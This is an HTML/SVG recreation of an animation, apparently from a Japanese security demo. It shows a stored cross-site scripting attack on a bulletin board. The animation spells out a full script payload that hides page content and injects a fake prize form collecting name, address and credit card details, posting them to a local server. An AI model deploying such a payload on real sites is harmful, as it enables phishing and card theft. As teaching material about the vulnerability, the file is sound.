
These frames come from a looping animation (1080x518 px, 8.83 s). An HTML page:

```html
<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="utf-8">
<title>掲示板</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #fefefe; }
svg { display: block; width: 100%; height: 100%; }
text {
  font: 11.4px "Noto Sans CJK JP", "Noto Sans CJK", sans-serif;
  fill: #212529; white-space: pre; text-rendering: geometricPrecision;
}
text.head { font-size: 17.1px; }
text.hint { fill: #757575; }
text.white { fill: #fff; }
.latin { font-family: "Open Sans", "Noto Sans", sans-serif; font-size: .945em; }
.field { fill: #fff; stroke: #767676; }
.button { fill: #efefef; stroke: #767676; }
.sel { fill: #3390ff; }
</style>
</head>
<body>
<svg viewBox="0 0 1080 518">
  <clipPath id="inside"><rect x="146" y="78" width="626" height="20"/></clipPath>
  <g id="board"></g>
  <g id="prize"></g>
  <g id="pointer">
    <circle id="halo" r="8.8" fill="#fffa5c" fill-opacity=".9"/>
    <path id="arrow" d="M.5 .5V9.6L2.6 7.6 4 10.9 5.6 10.2 4.2 7H7Z" fill="#fff" stroke="#222" stroke-width=".8"/>
    <path id="beam" d="M-2.5-5H-.7L0-4.3 .7-5H2.5M0-4.3V4.3M-2.5 5H-.7L0 4.3 .7 5H2.5" fill="none" stroke="#222" stroke-width=".9"/>
    <path id="hand" d="M-1 8V1Q0-.6 1 1V4.5Q2.3 3.6 2.9 5 4.2 4.2 4.7 5.6 6.2 5 6.3 6.8V9.5L5 12H-.2L-3.6 7.6Q-3.4 6.2-2.2 6.8Z" fill="#fff" stroke="#222" stroke-width=".8"/>
  </g>
</svg>
<script>
const LOOP = 8830, LEFT = 144.5, LINE = 17.1;
const $ = id => document.getElementById(id);
const board = $('board'), prize = $('prize');

const code = [
  "<script> var objXssPanel = document.getElementById('xss_panel'); objXssPanel.style.display='none'; var formCreate = document.createElement('form');",
  "formCreate.action = 'https://localhost:5445/hoge'; formCreate.method = 'post'; var input_name = document.createElement('input'); input_name.type = 'text';",
  "input_name.placeholder = '名前'; formCreate.appendChild(input_name); var input_address = document.createElement('input'); input_address.type = 'text';",
  "input_address.placeholder = '住所'; formCreate.appendChild(input_address); var input_credit = document.createElement('input'); input_credit.type = 'text';",
  "input_credit.placeholder = 'クレジットカード情報'; formCreate.appendChild(input_credit); var input_submit = document.createElement('input');",
  "input_submit.type = 'submit'; input_submit.value = '賞金を受け取る'; formCreate.appendChild(input_submit); var label_tousen =",
  "document.createElement('label_tousen'); var obj_tousen = label_tousen.appendChild(document.createTextNode('100万円が当選しました！！'));",
  "document.body.append(obj_tousen); document.body.append(formCreate); <\/script>"
];

function add(parent, tag, attrs) {
  const el = document.createElementNS('http://www.w3.org/2000/svg', tag);
  for (const k in attrs) el.setAttribute(k, attrs[k]);
  return parent.appendChild(el);
}
// Latin runs get their own face and size
function label(parent, x, y, str, cls = '') {
  const el = add(parent, 'text', { x, y, class: cls });
  for (const run of str.match(/[ -~]+|[^ -~]+/g))
    add(el, 'tspan', / |[!-~]/.test(run) ? { class: 'latin' } : {}).textContent = run;
  return el;
}
const box = (parent, cls, x, y, width, height) =>
  add(parent, 'rect', { class: cls, x, y, width, height, rx: cls === 'sel' ? 0 : 1.5 });
const show = (el, on) => el.style.display = on ? '' : 'none';

// Bulletin board page
label(board, LEFT, 17.2, '氏名:');
box(board, 'field', 144.5, 22, 134, 21);
label(board, 147, 37, '名無し');
label(board, LEFT, 56.2, '※サニタイジングあり');
label(board, LEFT, 73.3, 'コメント:');
const field = box(board, 'field', 144.5, 77.5, 631, 20.5);
const clipped = add(board, 'g', { 'clip-path': 'url(#inside)' });
const pasted = label(clipped, 148, 92.6, code.join(' '));
const send = box(board, 'button', 144.5, 98.5, 34, 21);
label(board, 150, 113.2, '送信');
label(board, LEFT, 136.8, 'スクリプト', 'head');

const bars = code.map((_, i) => box(board, 'sel', LEFT - .5, 174.5 + i * LINE, 0, LINE));
const lines = code.map((s, i) => label(board, LEFT, 187.6 + i * LINE, s, 'white'));

const headBar = box(board, 'sel', LEFT - .5, 323, 52, 20.7);
const heading = label(board, LEFT, 339.2, '掲示板', 'head');
for (let i = 0; i < 4; i++) {
  const y = 366.8 + i * 45.4;
  label(board, LEFT, y, `メンバー${i + 3}さんがコメントしました。`);
  label(board, LEFT, y + LINE, `コメント${i + 3}`);
}
add(board, 'path', { d: 'M1079.5 0V453', stroke: '#d4d4d4' });
add(board, 'path', { d: 'M1079.5 453V518', stroke: '#f0f0f0' });

// Fake prize page
label(prize, -.5, 28.7, '100万円が当選しました！！');
['名前', '住所', 'クレジットカード情報'].forEach((s, i) => {
  box(prize, 'field', -.5, 33.5 + i * 21.2, 133, 20.7);
  label(prize, 1.5, 48.2 + i * 21.2, s, 'hint');
});
box(prize, 'button', -.5, 97.3, 90, 20.7);
label(prize, 4.5, 112.1, '賞金を受け取る');
add(prize, 'path', { d: 'M0 517.5H1080', stroke: '#e2e2e2' });

// Pointer path: step of 100 ms, x, y
const path = [
  [1, 678, 434], [4, 300, 290], [7, 88, 189], [10, 134, 177], [15, 178, 187], [16, 200, 190],
  [18, 229, 197], [20, 229, 197], [22, 593, 318], [24, 680, 335], [28, 762, 331], [30, 776, 307],
  [31, 773, 302], [33, 767, 305], [35, 767, 305], [38, 600, 240], [42, 290, 105], [44, 253.5, 90],
  [49, 253.5, 90], [51, 158.5, 109.5], [69, 158.5, 109.5], [78, 1020, 530]
];
function pointerAt(step) {
  const i = Math.max(1, path.findIndex(p => p[0] >= step));
  const [a, ax, ay] = path[i - 1], [b, bx, by] = path[i];
  const k = (step - a) / (b - a);
  return [ax + (bx - ax) * k, ay + (by - ay) * k];
}

// End of the selection: step, line, characters
const drag = [[0, 0, 0], [15, 0, 2], [16, 0, 7], [17, 0, 11], [18, 1, 14], [21, 4, 42],
  [22, 7, code[7].length - 3], [23, 7, code[7].length]];

function select(step, active) {
  const [, line, chars] = drag.filter(d => d[0] <= step).pop();
  bars.forEach((bar, i) => {
    let w = 0;
    if (active && i < line) w = lines[i].getComputedTextLength() + 3;
    else if (active && i === line && chars) w = lines[i].getSubStringLength(0, chars);
    bar.setAttribute('width', w && w + .5);
  });
  const overHead = active && step >= 23 && step < 30;
  show(headBar, overHead);
  heading.classList.toggle('white', overHead);
}

function draw(t) {
  const step = Math.floor((t + 20) / 100);
  const won = t >= 5810, focus = t >= 4400 && t < 5310;
  show(board, !won);
  show(prize, won);
  select(step, t < 4620);
  show(pasted, t >= 4920);
  field.style.stroke = focus ? '#333' : '';
  send.style.fill = t >= 5110 ? '#e2e2e2' : '';

  show($('pointer'), step >= 1 && step < 78);
  if (step >= 1 && step < 78) $('pointer').setAttribute('transform', `translate(${pointerAt(step)})`);
  const beam = step >= 43 && step < 50, hand = step >= 51 && t < 6520;
  show($('beam'), beam);
  show($('hand'), hand);
  show($('arrow'), !beam && !hand);
  show($('halo'), t < 5410);
  $('halo').setAttribute('fill', step >= 45 && step < 47 ? '#f8e834' : '#fffa5c');
}

const start = performance.now();
(function tick() {
  draw((performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
})();
</script>
</body>
</html>
```
